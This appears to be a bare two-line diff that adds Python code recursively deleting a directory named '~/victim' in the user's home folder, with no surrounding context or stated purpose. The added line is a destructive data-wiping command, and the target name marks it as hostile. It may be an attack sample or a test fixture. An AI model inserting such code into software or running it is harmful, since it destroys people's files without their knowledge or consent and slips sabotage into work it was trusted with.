@@ -1,0 +1,2 @@
+import shutil, os
+shutil.rmtree(os.path.expanduser("~/victim"))
